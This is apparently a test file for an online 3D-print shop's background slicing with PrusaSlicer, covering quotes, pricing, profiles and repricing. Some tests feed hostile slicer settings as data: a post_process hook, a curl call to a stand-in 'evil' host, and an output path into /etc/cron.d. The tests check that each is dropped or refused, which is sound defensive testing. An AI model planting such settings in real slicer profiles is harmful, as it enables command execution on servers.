import { existsSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { eq } from 'drizzle-orm';
import { strToU8, unzipSync, zipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { pricePrint } from '#core/custom-prints/price-print';
import { DEFAULT_PRICING_CONSTANTS } from '#core/custom-prints/print-schemas';
import type { ShopEvent } from '#core/realtime/realtime-protocol';
import { makeBox } from '#core/geometry/make-box';
import { encode3mf, encodeBinaryStl } from '#core/geometry/write-mesh';
import { printQuotes } from '../../src/db/schema/custom-prints';
import { repriceStaleQuotes } from '../../src/server/custom-prints/reprice-open-quotes';
import { loadConfig } from '../../src/server/config';
import { requestQuote, uploadModel } from '../support/model-upload';
import { createTestApp, type TestApp } from '../support/test-app';
import { createTestUser, type TestUser } from '../support/test-users';

// Decision 123 with the real PrusaSlicer (Debian's prusa-slicer): quotes are sliced in the
// background and priced from the slice; failures go to the owner's review with the reason.
let t: TestApp;
let admin: TestUser;
let pla: { id: string; densityGPerCm3: number; pricePerGramCents: number; process: 'fdm' };
const events: ShopEvent[] = [];
const scratch = mkdtempSync(join(tmpdir(), 'slicing-test-'));

beforeAll(async () => {
  t = await createTestApp({
    slicer: {
      ...loadConfig({ SLICER_TIMEOUT_SECONDS: '20' }).slicer,
      path: '/usr/bin/prusa-slicer',
    },
  });
  admin = await createTestUser(t.app, { role: 'admin' });
  const options = (await t.app.inject({ method: 'GET', url: '/api/custom-prints/options' })).json();
  pla = options.materials.find((m: { name: string }) => m.name === 'PLA');
  t.app.events.subscribe((event) => events.push(event));
  await t.app.slicer.idle();
});
afterAll(async () => {
  await t.close();
  rmSync(scratch, { recursive: true, force: true });
});

const call = (method: 'GET' | 'POST' | 'PUT' | 'DELETE', url: string, payload?: object) =>
  t.app.inject({ method, url, payload, headers: { authorization: admin.authorization } });

async function quoteFor(bytes: Uint8Array, name: string, extra: object = {}) {
  const upload = await uploadModel(t.app, bytes, name);
  expect(upload.statusCode).toBe(201);
  const res = await requestQuote(t.app, {
    modelId: upload.json().model.id,
    materialId: pla.id,
    colour: 'Red',
    ...extra,
  });
  expect(res.statusCode).toBe(201);
  return res.json().quote;
}

/** The quote once the background slice and its live event are through. */
async function settled(id: string) {
  await t.app.slicer.idle();
  await t.app.outbox.idle();
  // The owner's answer: the slicer's figures and the breakdown are not the customer's (decision 173).
  return (await call('GET', `/api/admin/custom-prints/quotes/${id}`)).json().quote;
}

describe('a quote is sliced in the background', () => {
  it('answers the estimate at once, then holds the slicer figures and their price', async () => {
    const quote = await quoteFor(encodeBinaryStl(makeBox([20, 20, 20])), 'cube.stl');
    expect(quote.slice).toEqual({ status: 'queued' });
    const estimate = quote.priceCents;

    const sliced = await settled(quote.id);
    expect(sliced.slice.status).toBe('sliced');
    const figures = sliced.slice.figures;
    // A 20 mm cube at 20 % infill: a few grams of PLA, a quarter of an hour or so.
    expect(figures.gramsPerUnit).toBeGreaterThan(2);
    expect(figures.gramsPerUnit).toBeLessThan(8);
    expect(figures.supportGramsPerUnit).toBe(0);
    expect(figures.printHoursPerUnit).toBeGreaterThan(0.1);
    expect(figures.printHoursPerUnit).toBeLessThan(1);
    const size = [20, 20, 20] as [number, number, number];
    const expected = pricePrint(
      { volumeMm3: 8000, surfaceAreaMm2: 2400, sizeMm: size },
      pla,
      { quality: 'standard', infillPercent: 20, quantity: 1 },
      DEFAULT_PRICING_CONSTANTS,
      figures,
    );
    expect(sliced.breakdown.gramsPerUnit).toBeCloseTo(figures.gramsPerUnit, 6);
    expect(sliced.priceCents).toBe(expected.totalCents);
    expect(typeof estimate).toBe('number');

    // The live channel told the quote's page, without naming the quote's id.
    const live = events.find((e) => e.type === 'quote.updated');
    expect(live).toMatchObject({ type: 'quote.updated', userId: null, sliceStatus: 'sliced' });
    expect(JSON.stringify(live)).not.toContain(quote.id);
  });

  it('prints a material with supports when the owner says so, and counts the support', async () => {
    const supports = await call('PUT', `/api/admin/slicer/materials/${pla.id}/supports`, {
      supports: true,
    });
    expect(supports.statusCode).toBe(200);
    // A table: a 10 mm post under a 30 mm plate, all overhang.
    const post = makeBox([10, 10, 20], [10, 10, 0]);
    const plate = makeBox([30, 30, 4], [0, 0, 20]);
    const positions = new Float32Array([...post.positions, ...plate.positions]);
    const indices = new Uint32Array([...post.indices, ...[...plate.indices].map((i) => i + 8)]);
    const quote = await quoteFor(encodeBinaryStl({ positions, indices }), 'table.stl');
    const sliced = await settled(quote.id);
    expect(sliced.slice.status).toBe('sliced');
    expect(sliced.slice.figures.supportGramsPerUnit).toBeGreaterThan(0.5);
    await call('PUT', `/api/admin/slicer/materials/${pla.id}/supports`, { supports: false });
  });

  it('drops the settings a 3MF carries: its post-processing script never runs', async () => {
    const marker = join(scratch, 'post-process-ran');
    const files = unzipSync(encode3mf(makeBox([15, 15, 15])));
    files['Metadata/Slic3r_PE.config'] = strToU8(
      `; post_process = /usr/bin/touch ${marker}\n; fill_density = 0%\n; perimeters = 0\n`,
    );
    const quote = await quoteFor(zipSync(files), 'evil.3mf');
    const sliced = await settled(quote.id);
    expect(sliced.slice.status).toBe('sliced');
    expect(existsSync(marker)).toBe(false);
    // Its 0 % infill and no walls were not used either: the shop's 20 % and walls were.
    expect(sliced.slice.figures.gramsPerUnit).toBeGreaterThan(1);
  });
});

describe('owner profiles', () => {
  it('shows that slicing runs, how, and every profile slot', async () => {
    const res = await call('GET', '/api/admin/slicer');
    expect(res.statusCode).toBe(200);
    const view = res.json();
    expect(view.enabled).toBe(true);
    expect(view.detail).toMatch(/PrusaSlicer-2\./);
    expect(view.bed).toEqual({ x: 250, y: 210, z: 210 });
    expect(view.profiles.map((p: { kind: string }) => p.kind)).toContain('material');
  });

  it.each([
    ['post_process = /usr/bin/curl http://evil', 'post_process'],
    ['layer_height = 0.2\noutput_filename_format = /etc/cron.d/x', 'output_filename_format'],
    ['a = 1\n'.repeat(5000), 'lines'],
  ])('refuses a profile that could run or write something: %#', async (ini, reason) => {
    const res = await call('PUT', '/api/admin/slicer/profiles/quality/standard', {
      name: 'evil.ini',
      ini,
    });
    expect(res.statusCode).toBe(400);
    expect(res.json().message).toContain(reason);
  });

  it('sends a model the owner’s printer holds only when turned to review, with the reason', async () => {
    // Uploads check the bed in any orientation (decision 126); the slice takes the part as it is.
    const bed = 'bed_shape = 0x0,40x0,40x60,0x60\nmax_print_height = 40\n';
    const saved = await call('PUT', '/api/admin/slicer/profiles/printer/default', {
      name: 'tiny.ini',
      ini: bed,
    });
    expect(saved.statusCode).toBe(200);
    expect(saved.json().bed).toEqual({ x: 40, y: 60, z: 40 });
    const quote = await quoteFor(encodeBinaryStl(makeBox([60, 30, 10])), 'wide.stl');
    const reviewed = await settled(quote.id);
    expect(reviewed.status).toBe('requested');
    expect(reviewed.slice.status).toBe('review');
    expect(reviewed.slice.error).toMatch(/does not fit the printer's bed/);
    const list = await call('GET', '/api/admin/custom-prints/quotes?status=requested');
    expect(JSON.stringify(list.json())).toContain('does not fit');
    expect((await call('DELETE', '/api/admin/slicer/profiles/printer/default')).statusCode).toBe(
      200,
    );
  });

  it('slices open quotes again when a profile changes, with the new hash', async () => {
    const quote = await quoteFor(encodeBinaryStl(makeBox([20, 20, 10])), 'flat.stl');
    const first = await settled(quote.id);
    expect(first.slice.status).toBe('sliced');
    const saved = await call('PUT', '/api/admin/slicer/profiles/quality/standard', {
      name: 'thick.ini',
      ini: 'layer_height = 0.3\nfirst_layer_height = 0.3\nperimeters = 4\n',
    });
    expect(saved.statusCode).toBe(200);
    const again = await settled(quote.id);
    expect(again.slice.status).toBe('sliced');
    expect(again.slice.figures.gramsPerUnit).not.toBe(first.slice.figures.gramsPerUnit);
    await call('DELETE', '/api/admin/slicer/profiles/quality/standard');
    await settled(quote.id);
  });
});

describe('ordering at the estimate', () => {
  it('every route, the owner’s included, reads the owner’s setting for a quote still measured', async () => {
    const quote = await quoteFor(encodeBinaryStl(makeBox([12, 12, 12])), 'small.stl');
    await settled(quote.id);
    // Held as still being measured, so only the setting decides.
    await t.database.db
      .update(printQuotes)
      .set({ sliceStatus: 'queued' })
      .where(eq(printQuotes.id, quote.id));
    const reasons = async () => [
      (await call('GET', `/api/custom-prints/quotes/${quote.id}`)).json().quote.notOrderableReason,
      (await call('GET', `/api/admin/custom-prints/quotes/${quote.id}`)).json().quote
        .notOrderableReason,
    ];
    expect(await reasons()).toEqual(['slicing', 'slicing']);
    const { constants } = (await call('GET', '/api/admin/custom-prints/pricing')).json();
    const put = (estimateOrderable: boolean) =>
      call('PUT', '/api/admin/custom-prints/pricing', { ...constants, estimateOrderable });
    expect((await put(true)).statusCode).toBe(200);
    expect(await reasons()).toEqual([null, null]);
    expect((await put(false)).statusCode).toBe(200);
    await t.database.db
      .update(printQuotes)
      .set({ sliceStatus: 'sliced' })
      .where(eq(printQuotes.id, quote.id));
  });
});

describe('a change of prices', () => {
  const hashOf = async (id: string) =>
    (
      await t.database.db
        .select({ hash: printQuotes.pricedWithHash })
        .from(printQuotes)
        .where(eq(printQuotes.id, id))
    )[0]!.hash;

  it('re-prices an open sliced quote from its sliced figures, and keeps the new prices’ hash', async () => {
    const quote = await quoteFor(encodeBinaryStl(makeBox([18, 18, 18])), 'priced.stl');
    const sliced = await settled(quote.id);
    expect(sliced.slice.status).toBe('sliced');
    const before = await hashOf(quote.id);
    expect(before).toMatch(/^[0-9a-f]{32}$/);

    const { constants } = (await call('GET', '/api/admin/custom-prints/pricing')).json();
    const dearer = {
      ...constants,
      machineRateCentsPerHour: constants.machineRateCentsPerHour * 3,
      minimumPriceCents: 0,
    };
    expect((await call('PUT', '/api/admin/custom-prints/pricing', dearer)).statusCode).toBe(200);
    const repriced = await settled(quote.id);
    const size = [18, 18, 18] as [number, number, number];
    const expected = pricePrint(
      { volumeMm3: 18 ** 3, surfaceAreaMm2: 6 * 18 ** 2, sizeMm: size },
      pla,
      { quality: 'standard', infillPercent: 20, quantity: 1 },
      dearer,
      sliced.slice.figures,
    );
    expect(repriced.breakdown.source).toBe('sliced');
    expect(repriced.priceCents).toBe(expected.totalCents);
    expect(repriced.breakdown.minimumApplied).toBe(false);
    expect(repriced.priceCents).not.toBe(sliced.priceCents);
    const after = await hashOf(quote.id);
    expect(after).not.toBe(before);

    // A quote priced with other prices (here: none recorded) is priced again by the sweep.
    await t.database.db
      .update(printQuotes)
      .set({ pricedWithHash: null, price: '0.01' })
      .where(eq(printQuotes.id, quote.id));
    expect(await repriceStaleQuotes(t.database.db)).toBeGreaterThanOrEqual(1);
    expect((await settled(quote.id)).priceCents).toBe(expected.totalCents);
    expect(await hashOf(quote.id)).toBe(after);
    expect(await repriceStaleQuotes(t.database.db)).toBe(0);
    expect((await call('PUT', '/api/admin/custom-prints/pricing', constants)).statusCode).toBe(200);
  });
});
